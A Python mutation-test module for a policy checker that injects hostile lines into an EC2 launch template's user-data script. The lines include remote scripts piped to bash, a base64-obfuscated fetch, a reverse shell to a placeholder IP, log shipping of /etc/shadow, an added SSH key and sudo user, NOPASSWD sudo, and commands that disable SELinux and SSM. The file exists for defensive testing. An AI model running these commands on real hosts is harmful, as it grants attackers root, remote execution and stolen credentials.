"""What an instance runs when it starts, besides what it should: all of it as root."""

from policy.mutation.mutant import Change, Mutant, properties
from policy.templates.assembly import Assembly

SECRETS = '{"file_path": "/etc/shadow", "log_group_name": "x", "log_stream_name": "{instance_id}"}'
LINES = {
    "other files to the logs": (
        f'printf \'%s\' \'{{"logs": {{"logs_collected": {{"files": {{"collect_list": [{SECRETS}]}}}}}}}}\''
        " > /opt/aws/amazon-cloudwatch-agent/etc/codedeploy.json"
    ),
    "a script from the network": "curl --fail https://example.com/install.sh | bash",
    "a script from the network, in two steps": "wget https://example.com/x -O /tmp/x && sh /tmp/x",
    "a script without a scheme": "curl example.com/x | sh",
    "a script from somebody's bucket": "aws s3 cp s3://somebodys/install.sh - | bash",
    "a script from somebody's bucket, by its address": (
        "curl --fail https://somebodys.s3.eu-central-1.amazonaws.com/latest/install --output /tmp/install-codedeploy"
    ),
    "somebody's repository": "git clone https://github.com/example/tools && tools/install",
    "a Python package": "pip3 install example",
    "a Node package": "npm install --global example",
    "an RPM package by its address": "dnf install --assumeyes https://example.com/agent.rpm",
    "another repository of packages": "dnf config-manager --add-repo https://example.com/x.repo",
    "a program in its arguments": "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://example.com\").read())'",
    "another program for ruby": 'ruby -e \'require "open-uri"; eval(URI.open("https://example.com").read)\'',
    "a script in disguise": "echo Y3VybA== | base64 --decode | bash",
    "a shell for somebody": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
    "an SSH key": "echo 'ssh-ed25519 AAAA somebody' >> /home/ec2-user/.ssh/authorized_keys",
    "a user": "useradd --groups wheel somebody",
    "root for all": "echo 'ec2-user ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/all",
    "a job every minute": "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
    "a container with all rights": "docker run --privileged example/x",
    "SELinux off": "setenforce 0",
    "Session Manager off": "systemctl disable --now amazon-ssm-agent",
    "IMDSv1 for the agent": "sed -i 's/imds_v1: true/imds_v1: false/' /etc/codedeploy-agent/conf/codedeployagent.yml",
}


def _line(line: str) -> Change:
    """One more."""

    def change(assembly: Assembly) -> None:
        data = properties(assembly, "production", "Ec2/Instances/Template/Resource")["LaunchTemplateData"]
        data["UserData"]["Fn::Base64"] += f"\n{line}"

    return change


def _on_errors(instead: str) -> Change:
    def change(assembly: Assembly) -> None:
        data = properties(assembly, "production", "Ec2/Instances/Template/Resource")["LaunchTemplateData"]
        script = data["UserData"]["Fn::Base64"]
        data["UserData"]["Fn::Base64"] = script.replace("set -euxo pipefail\n", instead)

    return change


MUTANTS = (
    *(Mutant(f"user data: {what}", _line(line)) for what, line in LINES.items()),
    Mutant("user data: goes on after an error", _on_errors("")),
    Mutant("user data: goes on after an error in a pipe", _on_errors("set -e\n")),
)
